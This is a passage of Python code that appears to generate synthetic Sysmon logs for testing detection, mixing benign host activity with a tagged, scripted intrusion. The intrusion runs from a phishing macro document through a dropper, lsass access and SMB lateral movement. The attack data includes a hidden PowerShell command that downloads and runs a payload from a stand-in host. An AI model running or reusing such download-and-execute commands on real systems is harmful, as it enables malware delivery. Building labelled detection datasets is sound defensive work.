"""The sample day: benign background on several hosts plus one attack chain, streamed in order.

:func:`generate` yields :class:`~samples.model.SysmonEvent` objects sorted by TimeCreated. The
background is drawn on the fly from a seeded RNG as short "activities" (a browser session, a
Windows Update run, a ``git status``…), each a handful of events spanning seconds; the attack
chain and the morning logons are a small fixed set computed up front and merged in by time. A heap
holds only the events of activities in flight, so memory does not grow with the event count.

Ancestry: every process the log sees start has a ParentProcessGuid of an earlier event 1 on the
same host, except children of processes that were running before the log begins (winlogon,
services, svchost, …: see :data:`PRELOG_IMAGES`), which is what a real log looks like.
"""

from __future__ import annotations

import hashlib
import heapq
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime

from samples import catalog as C
from samples.model import (
    TICKS_PER_MS,
    TICKS_PER_SECOND,
    SysmonEvent,
    TimeFormatter,
    build_data,
)

SEC = TICKS_PER_SECOND
MS = TICKS_PER_MS
MINUTE = 60 * SEC
HOUR = 60 * MINUTE
DAY = 24 * HOUR
FILETIME_EPOCH_OFFSET = 116_444_736_000_000_000  # 1601-01-01 → 1970-01-01 in 100 ns ticks

DEFAULT_START = datetime(2026, 11, 2, tzinfo=UTC)
USERS = ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy")

# Images of processes that run before the log starts; their children are the only legitimate
# chain breaks (their own event 1 is not in the log).
PRELOG_IMAGES = frozenset(
    {
        "System",
        C.S32 + "smss.exe",
        C.S32 + "csrss.exe",
        C.S32 + "wininit.exe",
        C.S32 + "services.exe",
        C.S32 + "lsass.exe",
        C.S32 + "winlogon.exe",
        C.S32 + "svchost.exe",
        C.S32 + "spoolsv.exe",
        C.DEFENDER,
    }
)

# Truth categories (tags on malicious events).
T_ATTACK = "attack"
T_INTEL_IP = "intel_ip"
T_INTEL_IP_DNS = "intel_ip_dns_answer"
T_INTEL_DOMAIN = "intel_domain"
T_BAD_HASH = "bad_hash_executed"
T_BAD_DLL = "bad_dll_loaded"
T_UNSIGNED_DRIVER = "unsigned_driver_first_load"
T_LSASS = "lsass_access"
T_CRT = "create_remote_thread"
T_RAW_READ = "raw_disk_read"
T_OFFICE_SHELL = "office_spawns_shell"
T_TAMPER = "process_tampering"
T_NEW_BINARY = "new_binary_not_allowlisted"
T_SPREAD = "spread"
CATEGORIES = (
    T_INTEL_IP,
    T_INTEL_IP_DNS,
    T_INTEL_DOMAIN,
    T_BAD_HASH,
    T_BAD_DLL,
    T_UNSIGNED_DRIVER,
    T_LSASS,
    T_CRT,
    T_RAW_READ,
    T_OFFICE_SHELL,
    T_TAMPER,
    T_NEW_BINARY,
    T_SPREAD,
)

# Attack timeline, offsets from the start of the day.
ATTACK_OUTLOOK_START = 9 * HOUR + 5 * MINUTE + 12 * SEC
ATTACK_ATTACHMENT_OPEN = 9 * HOUR + 14 * MINUTE + 27 * SEC
SPREAD_TIMES = (
    11 * HOUR + 2 * MINUTE + 40 * SEC,
    13 * HOUR + 47 * MINUTE + 5 * SEC,
    15 * HOUR + 20 * MINUTE + 31 * SEC,
)

SYSTEM_USER = "NT AUTHORITY\\SYSTEM"
RUN_KEY = "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\InvoiceUpdate"
COM_CLSID = "{3EB3C877-1F16-487C-9050-104DBCD66683}"


@dataclass(slots=True)
class Proc:
    guid: str
    pid: int
    binary: C.Binary
    image: str
    cmdline: str
    user: str
    cwd: str
    integrity: str
    logon_guid: str
    logon_id: str
    session: str
    busy_until: int = 0


@dataclass(slots=True)
class Host:
    index: int
    fqdn: str
    ip: str
    server: bool
    user: str | None
    user_sid: str | None
    machine: str
    sysmon_pid: int
    sysmon_tids: tuple[int, ...]
    next_record: int
    boot: int
    seq: int = 0x10
    prelog: dict[str, Proc] = field(default_factory=dict)
    logon_time: int | None = None
    explorer: Proc | None = None
    user_logon_guid: str = ""
    user_logon_id: str = ""
    apps: dict[str, Proc] = field(default_factory=dict)

    @property
    def short(self) -> str:
        return self.fqdn.split(".", 1)[0]

    @property
    def domain_user(self) -> str:
        return f"{C.DOMAIN_NETBIOS}\\{self.user}"


def host_names(hosts: int) -> list[str]:
    """Workstations WS01…, then one server SRV01 (``hosts`` in all)."""
    if hosts < 2:
        raise ValueError("hosts must be at least 2 (the attack spreads from one host to another)")
    return [f"WS{i + 1:02d}.{C.DOMAIN_FQDN}" for i in range(hosts - 1)] + [f"SRV01.{C.DOMAIN_FQDN}"]


def attack_hosts(hosts: int) -> tuple[str, list[str]]:
    """(patient zero, spread targets in order). Patient zero is WS02 (WS01 with 2 hosts); the
    attack spreads to the server first, then to up to two other workstations."""
    names = host_names(hosts)
    workstations, server = names[:-1], names[-1]
    pz = workstations[1] if len(workstations) > 1 else workstations[0]
    others = [w for w in workstations if w != pz]
    targets = [server, *others][: min(3, hosts - 1)]
    return pz, targets


def _guid(machine: str, secs: int, tail: str) -> str:
    return f"{{{machine}-{secs & 0xFFFF:04x}-{(secs >> 16) & 0xFFFF:04x}-{tail}}}"


def _logon_guid(machine: str, ticks: int, logon_id: int) -> str:
    le = logon_id.to_bytes(8, "little").hex()
    return _guid(machine, ticks // SEC, f"{le[:4]}-{le[4:]}")


def _dns_results(cname: str | None, ips: tuple[str, ...]) -> str:
    parts = ([f"type:  5 {cname}"] if cname else []) + [f"::ffff:{ip}" for ip in ips]
    return ";".join(parts) + ";"


def _qword(ticks: int) -> str:
    ft = ticks + FILETIME_EPOCH_OFFSET
    return f"QWORD (0x{ft >> 32:08x}-0x{ft & 0xFFFFFFFF:08x})"


class _Day:
    def __init__(self, events: int, seed: int, hosts: int, start: datetime) -> None:
        if start.tzinfo is None:
            start = start.replace(tzinfo=UTC)
        self.t0 = int(start.timestamp()) * SEC
        self.start = start
        self.rng = random.Random(seed)
        self.arng = random.Random(seed * 1_000_003 + 0x5EED)
        self.fmt = TimeFormatter()
        self.hosts: list[Host] = [self._make_host(i, n, hosts) for i, n in enumerate(host_names(hosts))]
        self.by_name = {h.fqdn: h for h in self.hosts}
        self.fixed: list[SysmonEvent] = []
        for h in self.hosts:
            if not h.server:
                self.fixed.extend(self._logon(h))
        self.fixed.extend(self._attack(hosts))
        self.total = events
        self.background = events - len(self.fixed)
        if self.background < 0:
            raise ValueError(f"events must be at least {len(self.fixed)} (the attack chain and logons)")

    # ------------------------------------------------------------------ hosts and processes
    def _make_host(self, index: int, fqdn: str, n_hosts: int) -> Host:
        rng = self.rng
        server = index == n_hosts - 1
        user = None if server else USERS[index % len(USERS)]
        machine = hashlib.sha256(fqdn.encode()).hexdigest()[:8]
        boot = self.t0 - rng.randrange(2 * HOUR, 9 * DAY)
        ip = "10.20.0.10" if server else f"10.20.1.{11 + index}"
        h = Host(
            index=index,
            fqdn=fqdn,
            ip=ip,
            server=server,
            user=user,
            user_sid=None if server else f"{C.DOMAIN_SID}-{1104 + index}",
            machine=machine,
            sysmon_pid=rng.randrange(500, 1200) * 4,
            sysmon_tids=tuple(rng.randrange(500, 2500) * 4 for _ in range(3)),
            next_record=rng.randrange(100_000, 5_000_000),
            boot=boot,
        )
        sys_logon = _logon_guid(machine, boot, 0x3E7)
        system_proc = Proc(
            guid=self._new_guid(h, boot),
            pid=4,
            binary=C.BIN["smss.exe"],
            image="System",
            cmdline="",
            user=SYSTEM_USER,
            cwd="",
            integrity="System",
            logon_guid=sys_logon,
            logon_id="0x3e7",
            session="0",
        )
        h.prelog["system"] = system_proc
        for key, name, cmd in (
            ("services", "services.exe", C.S32 + "services.exe"),
            ("lsass", "lsass.exe", C.S32 + "lsass.exe"),
            ("winlogon", "winlogon.exe", "winlogon.exe"),
            ("svc_netsvcs", "svchost.exe", C.S32 + "svchost.exe -k netsvcs -p"),
            ("svc_dcom", "svchost.exe", C.S32 + "svchost.exe -k DcomLaunch -p"),
            ("svc_schedule", "svchost.exe", C.S32 + "svchost.exe -k netsvcs -p -s Schedule"),
            (
                "svc_sysmain",
                "svchost.exe",
                C.S32 + "svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain",
            ),
            ("svc_dnscache", "svchost.exe", C.S32 + "svchost.exe -k NetworkService -p -s Dnscache"),
            ("spoolsv", "spoolsv.exe", C.S32 + "spoolsv.exe"),
            ("msmpeng", "msmpeng.exe", '"' + C.DEFENDER + '"'),
        ):
            b = C.BIN[name]
            h.prelog[key] = Proc(
                guid=self._new_guid(h, boot + rng.randrange(1, 90) * SEC),
                pid=rng.randrange(100, 400) * 4,
                binary=b,
                image=b.path,
                cmdline=cmd,
                user=SYSTEM_USER,
                cwd=C.S32,
                integrity="System",
                logon_guid=sys_logon,
                logon_id="0x3e7",
                session="0",
            )
        return h

    def _new_guid(self, h: Host, ticks: int) -> str:
        s = h.seq
        h.seq += 1
        tail = f"{s & 0xFF:02x}{(s >> 8) & 0xFF:02x}-{(s >> 16) & 0xFF:02x}{(s >> 24) & 0xFF:02x}00001000"
        return _guid(h.machine, ticks // SEC, tail)

    def _spawn(
        self,
        h: Host,
        t: int,
        binary: C.Binary,
        cmdline: str,
        *,
        as_user: bool,
        image: str | None = None,
        cwd: str | None = None,
        rng: random.Random | None = None,
    ) -> Proc:
        r = rng or self.rng
        if as_user:
            assert h.user is not None
            return Proc(
                guid=self._new_guid(h, t),
                pid=r.randrange(250, 6000) * 4,
                binary=binary,
                image=image or binary.path,
                cmdline=cmdline,
                user=h.domain_user,
                cwd=cwd or f"C:\\Users\\{h.user}\\",
                integrity="Medium",
                logon_guid=h.user_logon_guid,
                logon_id=h.user_logon_id,
                session="1",
            )
        sysp = h.prelog["services"]
        return Proc(
            guid=self._new_guid(h, t),
            pid=r.randrange(250, 6000) * 4,
            binary=binary,
            image=image or binary.path,
            cmdline=cmdline,
            user=SYSTEM_USER,
            cwd=cwd or C.S32,
            integrity="System",
            logon_guid=sysp.logon_guid,
            logon_id="0x3e7",
            session="0",
        )

    # ------------------------------------------------------------------ event builders
    def _ev(
        self,
        h: Host,
        eid: int,
        t: int,
        values: dict[str, str],
        tags: tuple[str, ...] = (),
        rng: random.Random | None = None,
    ) -> SysmonEvent:
        r = rng or self.rng
        values["RuleName"] = values.get("RuleName", "-")
        values["UtcTime"] = self.fmt.utc_time(t)
        tc = t + r.randrange(1 * MS, 4 * MS)
        return SysmonEvent(
            host=h.fqdn,
            event_id=eid,
            time_created=tc,
            data=build_data(eid, values),
            process_id=h.sysmon_pid,
            thread_id=h.sysmon_tids[r.randrange(len(h.sysmon_tids))],
            tags=tags,
        )

    @staticmethod
    def _pfields(p: Proc) -> dict[str, str]:
        return {"ProcessGuid": p.guid, "ProcessId": str(p.pid), "Image": p.image, "User": p.user}

    def e1(
        self,
        h: Host,
        t: int,
        p: Proc,
        parent: Proc,
        tags: tuple[str, ...] = (),
        rng: random.Random | None = None,
    ) -> SysmonEvent:
        b = p.binary
        v = {
            "ProcessGuid": p.guid,
            "ProcessId": str(p.pid),
            "Image": p.image,
            "FileVersion": b.version,
            "Description": b.description,
            "Product": b.product,
            "Company": b.company,
            "OriginalFileName": b.original,
            "CommandLine": p.cmdline,
            "CurrentDirectory": p.cwd,
            "User": p.user,
            "LogonGuid": p.logon_guid,
            "LogonId": p.logon_id,
            "TerminalSessionId": p.session,
            "IntegrityLevel": p.integrity,
            "Hashes": b.hashes,
            "ParentProcessGuid": parent.guid,
            "ParentProcessId": str(parent.pid),
            "ParentImage": parent.image,
            "ParentCommandLine": parent.cmdline,
            "ParentUser": parent.user,
        }
        return self._ev(h, 1, t, v, tags, rng)

    def e3(
        self,
        h: Host,
        t: int,
        p: Proc,
        dst_ip: str,
        dport: int,
        dport_name: str = "-",
        *,
        dst_host: str = "-",
        src_ip: str | None = None,
        src_host: str | None = None,
        initiated: bool = True,
        proto: str = "tcp",
        tags: tuple[str, ...] = (),
        rng: random.Random | None = None,
    ) -> SysmonEvent:
        r = rng or self.rng
        v = self._pfields(p)
        v.update(
            Protocol=proto,
            Initiated="true" if initiated else "false",
            SourceIsIpv6="false",
            SourceIp=src_ip or h.ip,
            SourceHostname=src_host or h.fqdn,
            SourcePort=str(r.randrange(49152, 65535)),
            SourcePortName="-",
            DestinationIsIpv6="false",
            DestinationIp=dst_ip,
            DestinationHostname=dst_host,
            DestinationPort=str(dport),
            DestinationPortName=dport_name,
        )
        return self._ev(h, 3, t, v, tags, r)

    def e5(
        self, h: Host, t: int, p: Proc, tags: tuple[str, ...] = (), rng: random.Random | None = None
    ) -> SysmonEvent:
        return self._ev(h, 5, t, self._pfields(p), tags, rng)

    def e6(
        self, h: Host, t: int, b: C.Binary, tags: tuple[str, ...] = (), rng: random.Random | None = None
    ) -> SysmonEvent:
        v = {
            "ImageLoaded": b.path,
            "Hashes": b.hashes,
            "Signed": "true" if b.signed else "false",
            "Signature": b.signature,
            "SignatureStatus": b.signature_status,
        }
        return self._ev(h, 6, t, v, tags, rng)

    def e7(
        self,
        h: Host,
        t: int,
        p: Proc,
        b: C.Binary,
        path: str | None = None,
        tags: tuple[str, ...] = (),
        rng: random.Random | None = None,
    ) -> SysmonEvent:
        v = self._pfields(p)
        v.update(
            ImageLoaded=path or b.path,
            FileVersion=b.version,
            Description=b.description,
            Product=b.product,
            Company=b.company,
            OriginalFileName=b.original,
            Hashes=b.hashes,
            Signed="true" if b.signed else "false",
            Signature=b.signature,
            SignatureStatus=b.signature_status,
        )
        return self._ev(h, 7, t, v, tags, rng)

    def e10(
        self,
        h: Host,
        t: int,
        src: Proc,
        tgt: Proc,
        access: str,
        trace: str,
        tags: tuple[str, ...] = (),
        rng: random.Random | None = None,
    ) -> SysmonEvent:
        r = rng or self.rng
        v = {
            "SourceProcessGUID": src.guid,
            "SourceProcessId": str(src.pid),
            "SourceThreadId": str(r.randrange(100, 5000) * 4),
            "SourceImage": src.image,
            "TargetProcessGUID": tgt.guid,
            "TargetProcessId": str(tgt.pid),
            "TargetImage": tgt.image,
            "GrantedAccess": access,
            "CallTrace": trace,
            "SourceUser": src.user,
            "TargetUser": tgt.user,
        }
        return self._ev(h, 10, t, v, tags, r)

    def e11(
        self,
        h: Host,
        t: int,
        p: Proc,
        target: str,
        tags: tuple[str, ...] = (),
        rng: random.Random | None = None,
    ) -> SysmonEvent:
        v = self._pfields(p)
        v.update(TargetFilename=target, CreationUtcTime=self.fmt.utc_time(t))
        return self._ev(h, 11, t, v, tags, rng)

    def e12(
        self,
        h: Host,
        t: int,
        p: Proc,
        etype: str,
        target: str,
        tags: tuple[str, ...] = (),
        rng: random.Random | None = None,
    ) -> SysmonEvent:
        v = self._pfields(p)
        v.update(EventType=etype, TargetObject=target)
        return self._ev(h, 12, t, v, tags, rng)

    def e13(
        self,
        h: Host,
        t: int,
        p: Proc,
        target: str,
        details: str,
        tags: tuple[str, ...] = (),
        rng: random.Random | None = None,
    ) -> SysmonEvent:
        v = self._pfields(p)
        v.update(EventType="SetValue", TargetObject=target, Details=details)
        return self._ev(h, 13, t, v, tags, rng)

    def e17(self, h: Host, t: int, p: Proc, pipe: str, eid: int = 17) -> SysmonEvent:
        v = self._pfields(p)
        v.update(EventType="CreatePipe" if eid == 17 else "ConnectPipe", PipeName=pipe)
        return self._ev(h, eid, t, v)

    def e22(
        self,
        h: Host,
        t: int,
        p: Proc,
        query: str,
        results: str,
        tags: tuple[str, ...] = (),
        rng: random.Random | None = None,
    ) -> SysmonEvent:
        v = self._pfields(p)
        v.update(QueryName=query, QueryStatus="0", QueryResults=results)
        return self._ev(h, 22, t, v, tags, rng)

    # ------------------------------------------------------------------ fixed parts
    def _logon(self, h: Host) -> list[SysmonEvent]:
        """Morning interactive logon: winlogon (pre-log) → userinit → explorer."""
        rng = self.rng
        assert h.user is not None
        t = self.t0 + 7 * HOUR + rng.randrange(0, 75 * 60) * SEC + rng.randrange(0, 1000) * MS
        h.logon_time = t
        logon_id = rng.randrange(0x20000, 0x9FFFFF)
        h.user_logon_id = f"0x{logon_id:x}"
        h.user_logon_guid = _logon_guid(h.machine, t - 3 * SEC, logon_id)
        winlogon = h.prelog["winlogon"]
        userinit = self._spawn(h, t, C.BIN["userinit.exe"], C.S32 + "userinit.exe", as_user=True, cwd=C.S32)
        out = [self.e1(h, t, userinit, winlogon)]
        t2 = t + 1200 * MS
        explorer = self._spawn(
            h, t2, C.BIN["explorer.exe"], "C:\\Windows\\Explorer.EXE", as_user=True, cwd=C.S32
        )
        h.explorer = explorer
        out.append(self.e1(h, t2, explorer, userinit))
        for i, dll in enumerate(C.DLLS[:3]):
            out.append(self.e7(h, t2 + (40 + 15 * i) * MS, explorer, dll))
        out.append(
            self.e13(
                h,
                t2 + 2 * SEC,
                explorer,
                f"HKU\\{h.user_sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
                "Advanced\\TaskbarStateLastRun",
                _qword(t2),
            )
        )
        out.append(self.e5(h, t + 6 * SEC, userinit))
        return out

    def _attack(self, n_hosts: int) -> list[SysmonEvent]:
        r = self.arng
        pz_name, target_names = attack_hosts(n_hosts)
        pz = self.by_name[pz_name]
        assert pz.user is not None and pz.explorer is not None
        u = pz.user
        out: list[SysmonEvent] = []
        A = T_ATTACK

        def at(off: int) -> int:
            return self.t0 + off + r.randrange(0, 999) * MS

        t = at(ATTACK_OUTLOOK_START)
        outlook = self._spawn(pz, t, C.BIN["outlook.exe"], f'"{C.OFFICE}OUTLOOK.EXE" ', as_user=True, rng=r)
        out.append(self.e1(pz, t, outlook, pz.explorer, (A,), rng=r))
        out.append(self.e7(pz, t + 90 * MS, outlook, C.DLLS[4], tags=(A,), rng=r))
        name, cname, ips = C.USER_DOMAINS[3]
        out.append(self.e22(pz, t + 3 * SEC, outlook, name, _dns_results(cname, ips), (A,), rng=r))
        out.append(self.e3(pz, t + 3 * SEC + 200 * MS, outlook, ips[0], 443, "https", tags=(A,), rng=r))

        t = at(ATTACK_ATTACHMENT_OPEN)
        doc = (
            f"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7XK2QF1M\\"
            f"Invoice_{self.start:%Y%m%d}.docm"
        )
        out.append(self.e11(pz, t, outlook, doc, (A,), rng=r))
        t += 4 * SEC
        word = self._spawn(
            pz, t, C.BIN["winword.exe"], f'"{C.OFFICE}WINWORD.EXE" /n "{doc}" /o ""', as_user=True, rng=r
        )
        out.append(self.e1(pz, t, word, outlook, (A,), rng=r))
        out.append(self.e7(pz, t + 300 * MS, word, C.DLLS[10], tags=(A,), rng=r))
        t += 9 * SEC
        ps_cmd = (
            'powershell.exe -NoP -W Hidden -Exec Bypass -C "iwr https://dl.badcdn.example/inv/u.bin '
            '-OutFile $env:TEMP\\invoice_update.exe; Start-Process $env:TEMP\\invoice_update.exe"'
        )
        cmd = self._spawn(
            pz,
            t,
            C.BIN["cmd.exe"],
            f"C:\\Windows\\system32\\cmd.exe /c {ps_cmd}",
            as_user=True,
            rng=r,
            cwd=f"C:\\Users\\{u}\\Documents\\",
        )
        out.append(self.e1(pz, t, cmd, word, (A, T_OFFICE_SHELL), rng=r))
        t += 1 * SEC
        ps = self._spawn(
            pz, t, C.BIN["powershell.exe"], ps_cmd, as_user=True, rng=r, cwd=f"C:\\Users\\{u}\\Documents\\"
        )
        out.append(self.e1(pz, t, ps, cmd, (A,), rng=r))
        out.append(self.e7(pz, t + 400 * MS, ps, C.DLLS[10], tags=(A,), rng=r))
        t += 2 * SEC
        out.append(
            self.e22(
                pz,
                t,
                ps,
                C.BAD_DOWNLOAD_DOMAIN,
                _dns_results(None, (C.BAD_CIDR_IPS[0],)),
                (A, T_INTEL_DOMAIN, T_INTEL_IP_DNS),
                rng=r,
            )
        )
        t += 1 * SEC
        out.append(
            self.e3(pz, t, ps, C.BAD_CIDR_IPS[0], 443, "https", dst_host="-", tags=(A, T_INTEL_IP), rng=r)
        )
        t += 3 * SEC
        dropper_path = C.DROPPER.path.format(user=u)
        out.append(self.e11(pz, t, ps, dropper_path, (A,), rng=r))
        t += 2 * SEC
        dropper = self._spawn(
            pz,
            t,
            C.DROPPER,
            f'"{dropper_path}"',
            as_user=True,
            image=dropper_path,
            rng=r,
            cwd=f"C:\\Users\\{u}\\Documents\\",
        )
        out.append(self.e1(pz, t, dropper, ps, (A, T_BAD_HASH, T_NEW_BINARY, T_SPREAD), rng=r))
        out.append(self.e5(pz, t + 700 * MS, ps, (A,), rng=r))
        out.append(self.e5(pz, t + 800 * MS, cmd, (A,), rng=r))
        dll_path = C.BAD_DLL.path.format(user=u)
        out.append(self.e11(pz, t + 500 * MS, dropper, dll_path, (A,), rng=r))
        out.append(
            self.e7(pz, t + 1 * SEC, dropper, C.BAD_DLL, dll_path, (A, T_BAD_DLL, T_NEW_BINARY), rng=r)
        )
        t += 4 * SEC
        out.append(
            self.e22(
                pz,
                t,
                dropper,
                C.BAD_C2_DOMAIN,
                _dns_results(None, (C.BAD_IP,)),
                (A, T_INTEL_DOMAIN, T_INTEL_IP_DNS),
                rng=r,
            )
        )
        t += 1 * SEC
        out.append(self.e3(pz, t, dropper, C.BAD_IP, 443, "https", tags=(A, T_INTEL_IP), rng=r))
        t += 40 * SEC
        out.append(self.e3(pz, t, dropper, C.BAD_CIDR_IPS[1], 8443, tags=(A, T_INTEL_IP), rng=r))
        t += 60 * SEC
        out.append(
            self.e13(
                pz,
                t,
                dropper,
                RUN_KEY.format(sid=pz.user_sid),
                f'"{dropper_path}" /silent',
                (A,),
                rng=r,
            )
        )
        t += 5 * MINUTE
        trace = (
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
            f"{dropper_path}+1a2b7|UNKNOWN(00000000004A12F0)"
        )
        out.append(self.e10(pz, t, dropper, pz.prelog["lsass"], "0x1010", trace, (A, T_LSASS), rng=r))
        t += 10 * SEC
        out.append(
            self._ev(
                pz,
                9,
                t,
                {**self._pfields(dropper), "Device": "\\Device\\HarddiskVolume3"},
                (A, T_RAW_READ),
                r,
            )
        )
        t += 50 * SEC
        thread = {
            "SourceProcessGuid": dropper.guid,
            "SourceProcessId": str(dropper.pid),
            "SourceImage": dropper.image,
            "TargetProcessGuid": pz.explorer.guid,
            "TargetProcessId": str(pz.explorer.pid),
            "TargetImage": pz.explorer.image,
            "NewThreadId": str(r.randrange(1000, 9000) * 4),
            "StartAddress": "0x000001F4A3B20000",
            "StartModule": "-",
            "StartFunction": "-",
            "SourceUser": dropper.user,
            "TargetUser": pz.explorer.user,
        }
        out.append(self._ev(pz, 8, t, thread, (A, T_CRT), r))
        t += 1 * MINUTE
        dllhost = self._spawn(
            pz,
            t,
            C.BIN["dllhost.exe"],
            C.S32 + "dllhost.exe /Processid:" + COM_CLSID,
            as_user=True,
            rng=r,
            cwd=C.S32,
        )
        out.append(self.e1(pz, t, dllhost, dropper, (A,), rng=r))
        out.append(
            self._ev(
                pz,
                25,
                t + 200 * MS,
                {**self._pfields(dllhost), "Type": "Image is replaced"},
                (A, T_TAMPER),
                r,
            )
        )
        out.append(self.e5(pz, t + 2 * MINUTE, dllhost, (A,), rng=r))
        t += 2 * MINUTE
        out.append(self.e11(pz, t, dropper, C.BAD_DRIVER.path, (A,), rng=r))
        services = pz.prelog["services"]
        svc_key = "HKLM\\System\\CurrentControlSet\\Services\\kbdflt"
        out.append(self.e12(pz, t + 1 * SEC, services, "CreateKey", svc_key, (A,), rng=r))
        out.append(
            self.e13(
                pz,
                t + 1 * SEC + 5 * MS,
                services,
                svc_key + "\\ImagePath",
                "\\??\\" + C.BAD_DRIVER.path,
                (A,),
                rng=r,
            )
        )
        out.append(
            self.e13(
                pz, t + 1 * SEC + 9 * MS, services, svc_key + "\\Start", "DWORD (0x00000003)", (A,), rng=r
            )
        )
        out.append(self.e6(pz, t + 2 * SEC, C.BAD_DRIVER, (A, T_UNSIGNED_DRIVER, T_NEW_BINARY), rng=r))

        # Lateral movement: PsExec-like service on each target, the same dropper hash runs there.
        droppers: dict[str, Proc] = {pz.fqdn: dropper}
        sources = [pz.fqdn, pz.fqdn, target_names[0]]
        for i, tname in enumerate(target_names):
            src = self.by_name[sources[i]]
            dst = self.by_name[tname]
            src_dropper = droppers[src.fqdn]
            t = at(SPREAD_TIMES[i])
            out.append(
                self.e3(src, t, src_dropper, dst.ip, 445, "microsoft-ds", dst_host=dst.fqdn, tags=(A,), rng=r)
            )
            out.append(
                self.e3(
                    dst,
                    t + 30 * MS,
                    dst.prelog["system"],
                    dst.ip,
                    445,
                    "microsoft-ds",
                    dst_host=dst.fqdn,
                    src_ip=src.ip,
                    src_host=src.fqdn,
                    initiated=False,
                    tags=(A,),
                    rng=r,
                )
            )
            remote_path = "C:\\Windows\\Temp\\" + C.DROPPER_NAME
            out.append(self.e11(dst, t + 2 * SEC, dst.prelog["system"], remote_path, (A,), rng=r))
            dsvc = dst.prelog["services"]
            key = "HKLM\\System\\CurrentControlSet\\Services\\InvUpdSvc"
            out.append(self.e12(dst, t + 3 * SEC, dsvc, "CreateKey", key, (A,), rng=r))
            out.append(
                self.e13(
                    dst,
                    t + 3 * SEC + 4 * MS,
                    dsvc,
                    key + "\\ImagePath",
                    f"%COMSPEC% /Q /c {remote_path}",
                    (A,),
                    rng=r,
                )
            )
            t += 4 * SEC
            rcmd = self._spawn(
                dst,
                t,
                C.BIN["cmd.exe"],
                f"C:\\Windows\\system32\\cmd.exe /Q /c {remote_path}",
                as_user=False,
                rng=r,
            )
            out.append(self.e1(dst, t, rcmd, dsvc, (A,), rng=r))
            t += 300 * MS
            rdrop = self._spawn(dst, t, C.DROPPER, remote_path, as_user=False, image=remote_path, rng=r)
            droppers[dst.fqdn] = rdrop
            out.append(self.e1(dst, t, rdrop, rcmd, (A, T_BAD_HASH, T_NEW_BINARY, T_SPREAD), rng=r))
            t += 3 * SEC
            out.append(
                self.e22(
                    dst,
                    t,
                    rdrop,
                    C.BAD_C2_DOMAIN,
                    _dns_results(None, (C.BAD_IP,)),
                    (A, T_INTEL_DOMAIN, T_INTEL_IP_DNS),
                    rng=r,
                )
            )
            out.append(self.e3(dst, t + 1 * SEC, rdrop, C.BAD_IP, 443, "https", tags=(A, T_INTEL_IP), rng=r))
            rtrace = (
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                f"{remote_path}+1a2b7|UNKNOWN(00000000004A12F0)"
            )
            out.append(
                self.e10(
                    dst, t + 2 * MINUTE, rdrop, dst.prelog["lsass"], "0x1010", rtrace, (A, T_LSASS), rng=r
                )
            )
            out.append(self.e5(dst, t + 2 * MINUTE + 5 * SEC, rcmd, (A,), rng=r))
        # Droppers exit late in the day (each after the last hop it serves).
        for i, (hname, proc) in enumerate(sorted(droppers.items())):
            out.append(
                self.e5(
                    self.by_name[hname], self.t0 + 17 * HOUR + 45 * MINUTE + i * 7 * MINUTE, proc, (A,), rng=r
                )
            )
        return out

    # ------------------------------------------------------------------ background activities
    def _step(self, t: int, lo_ms: int = 40, hi_ms: int = 1500) -> int:
        return t + self.rng.randrange(lo_ms, hi_ms) * MS

    def _user_app(
        self, h: Host, t: int, key: str, binary: C.Binary, cmdline: str, out: list[SysmonEvent]
    ) -> Proc:
        """A long-lived user application: reuse it, or start it (event 1 at ``t``) from explorer."""
        p = h.apps.get(key)
        if p is None:
            assert h.explorer is not None
            p = self._spawn(h, t, binary, cmdline, as_user=True)
            h.apps[key] = p
            out.append(self.e1(h, t, p, h.explorer))
            rng = self.rng
            for dll in rng.sample(C.DLLS[:9], 2):
                out.append(self.e7(h, t + rng.randrange(20, 300) * MS, p, dll))
        return p

    def act_svc_net(self, h: Host, t: int) -> list[SysmonEvent]:
        rng = self.rng
        p = h.prelog[rng.choice(("svc_netsvcs", "msmpeng", "svc_dcom"))]
        name, cname, ips = rng.choice(C.SYSTEM_DOMAINS)
        out = [self.e22(h, t, p, name, _dns_results(cname, ips))]
        out.append(self.e3(h, self._step(t), p, ips[0], 443, "https"))
        p.busy_until = max(p.busy_until, out[-1].time_created)
        return out

    def act_windows_update(self, h: Host, t: int) -> list[SysmonEvent]:
        rng = self.rng
        parent = h.prelog["svc_netsvcs"]
        wu = self._spawn(
            h,
            t,
            C.BIN["wuauclt.exe"],
            '"C:\\Windows\\system32\\wuauclt.exe" /RunHandlerComServer',
            as_user=False,
        )
        out = [self.e1(h, t, wu, parent)]
        t = self._step(t, 20, 200)
        for dll in (C.DLLS[13], C.DLLS[6]):
            out.append(self.e7(h, t, wu, dll))
            t = self._step(t, 5, 60)
        name, cname, ips = C.SYSTEM_DOMAINS[1]
        out.append(self.e22(h, t, wu, name, _dns_results(cname, ips)))
        t = self._step(t)
        out.append(self.e3(h, t, wu, ips[0], 443, "https"))
        t = self._step(t, 500, 5000)
        folder = f"{rng.getrandbits(128):032x}"
        out.append(self.e11(h, t, wu, f"C:\\Windows\\SoftwareDistribution\\Download\\{folder}\\metadata.cab"))
        t = self._step(t)
        cat = f"{{{rng.getrandbits(32):08X}-2C14-4B5F-9A3E-{rng.getrandbits(48):012X}}}"
        out.append(
            self.e13(
                h,
                t,
                parent,
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\"
                f"LastOnlineScanTimeForAppCategory\\{cat}",
                _qword(t),
            )
        )
        t = self._step(t, 200, 3000)
        out.append(self.e5(h, t, wu))
        return out

    def act_task(self, h: Host, t: int) -> list[SysmonEvent]:
        rng = self.rng
        parent = h.prelog["svc_schedule"]
        if rng.random() < 0.5:
            p = self._spawn(h, t, C.BIN["taskhostw.exe"], "taskhostw.exe Install $(Arg0)", as_user=False)
        else:
            p = self._spawn(
                h,
                t,
                C.BIN["backgroundtaskhost.exe"],
                '"C:\\Windows\\system32\\backgroundTaskHost.exe" '
